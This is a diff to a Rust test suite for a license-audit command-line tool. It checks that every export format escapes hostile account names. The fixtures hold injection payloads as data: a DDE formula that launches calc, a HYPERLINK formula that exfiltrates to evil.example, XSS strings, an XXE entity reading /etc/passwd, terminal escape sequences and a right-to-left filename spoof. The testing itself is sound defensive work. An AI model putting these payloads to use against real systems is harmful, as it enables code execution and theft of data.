@@ -2,6 +2,7 @@
 
 use super::{demo, demo_json, findings, json, written};
 use crate::command_line::{licit, on_small_data};
+use crate::common::skipped;
 use licit::model::FindingKind;
 use serde_json::Value;
 use std::collections::{BTreeMap, BTreeSet};
@@ -137,12 +138,70 @@ const HOSTILE: [&str; 6] = [
     "+cmd",
 ];
 
+/// Beginnings of a name that make a formula, a tag, a sequence of the terminal, another direction or another cell of it.
+const BEGINNINGS: [&str; 12] = [
+    "",
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r\n=",
+    "\u{ff1d}",
+    " =",
+    "\u{1b}[31m",
+    "\u{202e}",
+    "\"",
+];
+
+/// What may follow.
+const PAYLOADS: [&str; 12] = [
+    "cmd|' /C calc'!A0",
+    "HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
+    "<img src=x onerror=alert(1)>",
+    "</table><iframe src=javascript:alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "&lt;script&gt;&#x6a;",
+    "]]></system-out><failure/><!--",
+    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
+    "a\",\"b\",\"=c\n=d",
+    "\u{1b}]0;title\u{7}\u{9b}31m\u{8}\u{0}",
+    "\u{2066}gpj.exe\u{2069}\u{200b}\u{feff}\u{e0041}",
+    "| a | [x](javascript:alert(1)) `b` ![y](data:text/html,x)",
+];
+
+/// 150 hostile names.
+fn hostile_names() -> Vec<String> {
+    let made = BEGINNINGS.iter().flat_map(|beginning| {
+        let names = PAYLOADS.iter();
+        names.map(move |payload| format!("{beginning}{payload}"))
+    });
+    let names: Vec<String> = HOSTILE
+        .iter()
+        .map(|name| (*name).to_owned())
+        .chain(made)
+        .collect();
+    assert_eq!(names.len(), 150);
+    names
+}
+
+/// A string of TOML that holds a text as it is.
+fn toml_string(text: &str) -> String {
+    let letters = text.chars().map(|letter| match letter {
+        '"' | '\\' => format!("\\{letter}"),
+        letter if letter.is_control() => format!("\\u{:04x}", u32::from(letter)),
+        letter => letter.to_string(),
+    });
+    format!("\"{}\"", letters.collect::<String>())
+}
+
 /// A tenant whose people have these names, each lacking a license.
 fn hostile() -> String {
     let mut text = String::new();
-    for (number, name) in HOSTILE.iter().enumerate() {
+    for (number, name) in hostile_names().iter().enumerate() {
+        let name = toml_string(name);
         text.push_str(&format!(
-            "[[account]]\nupn = \"a{number}@contoso.example\"\nname = '{name}'\nheld = []\neligible = [\"Helpdesk Administrator\"]\n"
+            "[[account]]\nupn = \"a{number}@contoso.example\"\nname = {name}\nheld = []\neligible = [\"Helpdesk Administrator\"]\n"
         ));
     }
     text.push_str("[[group]]\nname = '=1+1|<b>'\neligible = [\"Helpdesk Administrator\"]\n");
@@ -163,7 +222,7 @@ fn no_name_of_an_export_becomes_a_formula_a_tag_or_a_column() {
         }
         rows += 1;
     }
-    assert!(rows > HOSTILE.len());
+    assert!(rows > 150);
     assert!(csv.contains("'=HYPERLINK(1)"), "{csv}");
 
     let html = audit("html");
@@ -186,6 +245,17 @@ fn no_name_of_an_export_becomes_a_formula_a_tag_or_a_column() {
     ]
     .into();
     assert!(tags.is_subset(&ours), "{:?}", tags.difference(&ours));
+    // An attribute stands only in our own tags, and those of names of ours.
+    for tag in body
+        .split('<')
+        .skip(1)
+        .filter_map(|tag| tag.split_once('>'))
+    {
+        let attributes = tag.0.split(' ').skip(1).filter(|word| word.contains('='));
+        for attribute in attributes {
+            assert!(attribute.starts_with("class=\""), "{}", tag.0);
+        }
+    }
     assert!(!html.contains("<script"), "{html}");
 
     let markdown = audit("markdown");
@@ -198,6 +268,52 @@ fn no_name_of_an_export_becomes_a_formula_a_tag_or_a_column() {
         assert_eq!(bars, 3, "{line}");
     }
     assert!(!markdown.replace("\\<", "").contains("<img"), "{markdown}");
+}
+
+/// Signs that steer a terminal, or turn or hide text.
+fn is_harmful(letter: char) -> bool {
+    (letter.is_control() && letter != '\n')
+        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
+}
+
+#[test]
+fn no_form_passes_a_sign_on_that_steers_a_terminal_or_turns_text() {
+    let file = hostile();
+    for form in ["text", "json", "ndjson", "csv", "markdown", "junit", "html"] {
+        let run = licit(&["audit", &file, "--format", form]);
+        for text in [&run.answer, &run.messages] {
+            let harmful: BTreeSet<char> =
+                text.chars().filter(|letter| is_harmful(*letter)).collect();
+            assert!(harmful.is_empty(), "{form}: {harmful:?}");
+        }
+        // JSON has other signs for the same: none of them stands for such a sign either.
+        if form.ends_with("json") {
+            for line in run.answer.lines().filter(|_| form == "ndjson") {
+                let line: Value = serde_json::from_str(line).unwrap();
+                let bad = |text: &str| text.chars().any(is_harmful);
+                assert!(!strings(&line).into_iter().any(bad), "{line}");
+            }
+        }
+    }
+    for program in ["soffice", "chromium"] {
+        let path = std::env::var_os("PATH").unwrap_or_default();
+        if !std::env::split_paths(&path).any(|folder| folder.join(program).is_file()) {
+            skipped(
+                "S04 and S05 in the real program",
+                &format!("{program} is not on this machine"),
+            );
+        }
+    }
+}
+
+/// All texts in a value.
+fn strings(value: &Value) -> Vec<&str> {
+    match value {
+        Value::String(text) => vec![text],
+        Value::Array(list) => list.iter().flat_map(strings).collect(),
+        Value::Object(fields) => fields.values().flat_map(strings).collect(),
+        _ => Vec::new(),
+    }
 }
 
 /// The names of elements and attributes are balanced, quoted and escaped: what every reader of XML asks for.
@@ -271,9 +387,9 @@ fn junit_is_well_formed_and_counts_what_it_holds() {
         assert_eq!(number("skipped"), answer.matches("<skipped ").count());
         (number("failures"), number("skipped"))
     };
-    // Six people lack a license; nobody tells who is in the group.
+    // 150 people lack a license; nobody tells who is in the group.
     let (failures, skipped) = counted(&licit(&["audit", &file, "--format", "junit"]).answer);
-    assert_eq!((failures, skipped), (HOSTILE.len(), 1));
+    assert_eq!((failures, skipped), (150, 1));
     let strict = licit(&[
         "audit",
         &file,
@@ -283,9 +399,9 @@ fn junit_is_well_formed_and_counts_what_it_holds() {
         "cannot-tell",
     ])
     .answer;
-    assert_eq!(counted(&strict), (HOSTILE.len() + 1, 0));
+    assert_eq!(counted(&strict), (150 + 1, 0));
     let lax = licit(&["audit", &file, "--format", "junit", "--fail-on", "never"]).answer;
-    assert_eq!(counted(&lax), (0, HOSTILE.len() + 1));
+    assert_eq!(counted(&lax), (0, 150 + 1));
     counted(&demo(&["--format", "junit"]).answer);
 }
 
